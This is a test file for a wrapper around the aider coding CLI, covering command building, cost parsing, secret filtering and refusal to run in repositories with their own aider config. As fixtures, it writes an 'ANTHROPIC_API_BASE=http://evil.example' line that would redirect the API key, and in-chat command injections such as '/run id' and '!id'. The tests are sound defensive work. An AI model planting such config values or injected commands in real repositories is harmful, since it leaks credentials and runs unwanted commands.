import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { AiderBrain, parseTokensLine } from '../../brains/aider.js';
import { CLI_COMMAND_PROMPTS } from '../contracts/brain.js';
import { readCliLog } from '../core/handoff/handoff-host.js';
import { tempDir } from '../helpers.js';
import { brainDeps, FAKE_BIN, FAKE_CLI_ENV, runCommand, runFake } from './brain-deps.js';

const dir = tempDir('pie-brain-aider-');
afterAll(() => dir.remove());
const log = join(dir.path, 'cli.log');
const lastStart = () => readCliLog(log).findLast((event) => event.event === 'start');
const lastEvents = () => readCliLog(log).filter((event) => event.pid === lastStart()?.pid);
const cliEnv = { PATH: `${FAKE_BIN}:${process.env.PATH}`, FAKE_BRAIN_LOG: log };

const job = { taskId: 3, prompt: 'rename foo to bar', cwd: '/repos/app', runDir: '/runs/3/2-aider', maxBudgetUsd: 2 };

describe('aider', () => {
  it('builds `aider --message-file=/dev/stdin --yes-always --no-auto-commits ...` with header + prompt on stdin', () => {
    const brain = new AiderBrain(brainDeps(dir.path, { config: { brains: { model: 'sonnet' } }, anthropicApiKey: 'sk-a' }));
    const command = brain.buildCommand({ ...job, userPrefsFile: '/brain/profile/user_prefs.md' });
    expect(command).toEqual({
      file: 'aider',
      args: [
        '--message-file=/dev/stdin',
        '--yes-always',
        '--no-auto-commits',
        '--no-check-update',
        '--analytics-disable',
        '--no-pretty',
        '--no-suggest-shell-commands',
        '--no-detect-urls',
        '--disable-playwright',
        '--no-auto-lint',
        '--no-auto-test',
        '--no-show-release-notes',
        '--no-gitignore',
        '--model',
        'sonnet',
        '--read',
        '/brain/profile/user_prefs.md',
      ],
      cwd: '/repos/app',
      env: { ANTHROPIC_API_KEY: 'sk-a' },
      // On standard input, not the command line: anyone on the Pi can read argv (ps, /proc/<pid>/cmdline).
      stdin: 'User request (verbatim):\nrename foo to bar',
    });
  });

  // The forms aider 0.86 runs as in-chat commands from --message and --message-file alike (measured): each
  // must reach aider as a message whose first line is the fixed header, the user's text after it byte for byte.
  it.each(CLI_COMMAND_PROMPTS)('hands %j to aider as text after the header, never as a command', async (prompt) => {
    const brain = new AiderBrain(brainDeps(dir.path));
    const command = brain.buildCommand({ ...job, cwd: dir.path, prompt });
    const messages = command.args.filter((arg) => arg.startsWith('--message'));
    expect(messages).toEqual(['--message-file=/dev/stdin']);
    expect(command.stdin).toBe(`User request (verbatim):\n${prompt}`);
    await runCommand(command, cliEnv, FAKE_CLI_ENV).done;
    const events = readCliLog(log).filter((event) => event.pid === lastStart()?.pid);
    expect(lastStart()?.prompt).toBe(`User request (verbatim):\n${prompt}`);
    expect(events.map((event) => event.event)).toEqual(['start', 'end']);
  });

  it('would have run them as commands and fetched the URL without the header and flags (what the fake reproduces)', () => {
    const bare = (message: string, ...flags: string[]) =>
      runFake('aider', [`--message=${message}`, ...flags], { FAKE_BRAIN_LOG: log }, dir.path) && lastEvents();
    expect(bare('/run id').map((event) => event.event)).toContain('in-chat-command');
    expect(bare('!id').map((event) => event.event)).toContain('in-chat-command');
    expect(bare('see https://example.com/x').map((event) => event.event)).toEqual(
      expect.arrayContaining(['url-fetched', 'playwright-installed']),
    );
  });

  it('gives aider model keys and its own settings, never a platform token', () => {
    const brain = new AiderBrain(
      brainDeps(dir.path, {
        env: {
          OPENAI_API_KEY: 'sk-o',
          OPENROUTER_API_KEY: 'sk-r',
          OLLAMA_API_BASE: 'http://127.0.0.1:11434',
          AIDER_MODEL: 'gpt-5',
          TELEGRAM_BOT_TOKEN: '123:abc',
          SLACK_BOT_TOKEN: 'xoxb-1',
          DISCORD_BOT_TOKEN: 'd-1',
          PIE_BRAIN_HOME: '/secret/home',
        },
      }),
    );
    expect(brain.buildCommand(job).env).toEqual({
      OPENAI_API_KEY: 'sk-o',
      OPENROUTER_API_KEY: 'sk-r',
      OLLAMA_API_BASE: 'http://127.0.0.1:11434',
      AIDER_MODEL: 'gpt-5',
    });
  });

  it('reads tokens and cost from the "Tokens: ... Cost: $X message, $Y session." lines', () => {
    expect(
      parseTokensLine('Tokens: 4.2k sent, 2.1k cache write, 3.5k cache hit, 230 received. Cost: $0.01 message, $0.03 session.'),
    ).toEqual({
      usage: { inputTokens: 4200, outputTokens: 230, cacheReadTokens: 3500, cacheWriteTokens: 2100 },
      sessionUsd: 0.03,
    });
    expect(parseTokensLine('Tokens: 12 sent, 3 received.')).toEqual({
      usage: { inputTokens: 12, outputTokens: 3, cacheReadTokens: 0, cacheWriteTokens: 0 },
    });
    expect(parseTokensLine('Main model: sonnet')).toBeUndefined();
  });

  it('answers with the model’s text and the session cost of the last Cost line', () => {
    const brain = new AiderBrain(brainDeps(dir.path));
    const result = brain.parseResult(runFake('aider', ['--message', 'tidy the notes']));
    expect(result).toEqual({
      text: 'Here is what I did for: tidy the notes',
      costUsd: 0.0129,
      costKnown: true,
      usage: { inputTokens: 3300, outputTokens: 420, cacheReadTokens: 1500, cacheWriteTokens: 0 },
      isError: false,
      unavailable: false,
      turns: 2,
    });
  });

  it('is unavailable when it fails before reaching a model, and failed when it crashes after', () => {
    const brain = new AiderBrain(brainDeps(dir.path));
    expect(brain.parseResult(runFake('aider', ['--message', 'x'], { FAKE_AIDER_NO_KEY: '1' }))).toMatchObject({
      text: 'litellm.AuthenticationError: AnthropicException - invalid x-api-key',
      isError: true,
      unavailable: true,
    });
    const crashed = brain.parseResult(runFake('aider', ['--message', '[crash] x']));
    expect(crashed).toMatchObject({ isError: true, unavailable: false, costUsd: 0.0098, costKnown: true });
  });

  it('counts a run that reached the model as done when its exit code was lost in a restart', () => {
    const brain = new AiderBrain(brainDeps(dir.path));
    const outputs = runFake('aider', ['--message', 'x']);
    expect(brain.parseResult({ ...outputs, exitCode: null })).toMatchObject({ isError: false, costUsd: 0.0129 });
  });

  it('gives progress per model exchange with the session cost so far', () => {
    const brain = new AiderBrain(brainDeps(dir.path));
    expect(brain.parseProgress('Tokens: 2.1k sent, 340 received. Cost: $0.0098 message, $0.0098 session.')).toEqual({
      turn: true,
      usage: { inputTokens: 2100, outputTokens: 340, cacheReadTokens: 0, cacheWriteTokens: 0 },
      costUsd: 0.0098,
    });
  });
});

describe('aider in a repository with its own aider config', () => {
  // aider loads the repository's .env over its environment and reads its config files whatever the command
  // line says: an ANTHROPIC_API_BASE there would send the API key to another server.
  it.each(['.env', '.aider.conf.yml', '.aider.model.settings.yml', '.aider.model.metadata.json'])(
    'does not start where the repository has %s, at its root or in the working folder, and says why',
    (name) => {
      const repo = join(dir.path, `repo-${name.replace(/\W/g, '')}`);
      mkdirSync(join(repo, '.git'), { recursive: true });
      mkdirSync(join(repo, 'src'), { recursive: true });
      writeFileSync(join(repo, name), 'ANTHROPIC_API_BASE=http://evil.example\n');
      const brain = new AiderBrain(brainDeps(dir.path));
      for (const cwd of [repo, join(repo, 'src')]) {
        let error: unknown;
        try {
          brain.buildCommand({ ...job, cwd });
        } catch (caught) {
          error = caught;
        }
        expect(error).toMatchObject({ code: 'BRAIN_UNAVAILABLE' });
        expect((error as { userMessage?: string }).userMessage).toContain(`${join(repo, name)} from the repository`);
      }
    },
  );

  it('starts in a repository without them', () => {
    const repo = join(dir.path, 'clean-repo');
    mkdirSync(join(repo, '.git'), { recursive: true });
    expect(new AiderBrain(brainDeps(dir.path)).buildCommand({ ...job, cwd: repo }).cwd).toBe(repo);
  });
});
